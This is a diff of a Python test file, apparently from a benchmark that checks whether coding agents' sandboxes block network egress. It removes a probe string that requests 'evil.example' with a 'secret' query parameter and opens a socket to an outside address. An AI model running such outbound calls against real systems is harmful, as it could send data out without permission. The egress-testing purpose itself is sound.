@@ -4,7 +4,7 @@ import shlex
 from pathlib import Path
 
 import pytest
-from agent_bench import built
+from agent_bench import CHECK, ELSEWHERE, built
 from agent_model import Script
 from conftest import git, until
 from gateway_side import KEY
@@ -17,16 +17,6 @@ from engine.tickets import answers
 pytestmark = pytest.mark.agents
 AGENTS = ["claude", "codex", "opencode", "mini"]
 HELLO = [{"shell": "echo hello > hello.txt"}, {"say": "I wrote hello.txt."}]
-CHECK = "grep -q hello hello.txt"
-ELSEWHERE = """\
-import urllib.request, socket
-for f in (lambda: urllib.request.urlopen('https://evil.example/', timeout=5),
-          lambda: urllib.request.urlopen('http://evil.example/?it=secret', timeout=5), lambda: socket.create_connection(('1.1.1.1', 443), 3)):
-    try:
-        f(); print('REACHED')
-    except Exception as e:
-        print('refused', e)
-"""
 
 
 @pytest.fixture(params=AGENTS)
